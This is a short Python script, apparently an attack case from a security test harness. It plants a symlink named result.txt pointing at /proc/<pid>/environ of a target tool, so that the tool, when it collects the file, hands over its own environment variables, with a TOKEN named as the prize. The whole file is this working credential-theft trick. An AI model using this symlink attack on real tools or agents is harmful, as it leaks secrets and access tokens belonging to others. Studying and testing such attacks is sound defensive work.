# goal: have the tool read its own environment for us
# success: collects TOKEN
# held_by: always:collecting
# collect: result.txt
import json
import os

os.symlink(f"/proc/{json.load(open('target.json'))['tool']}/environ", "result.txt")
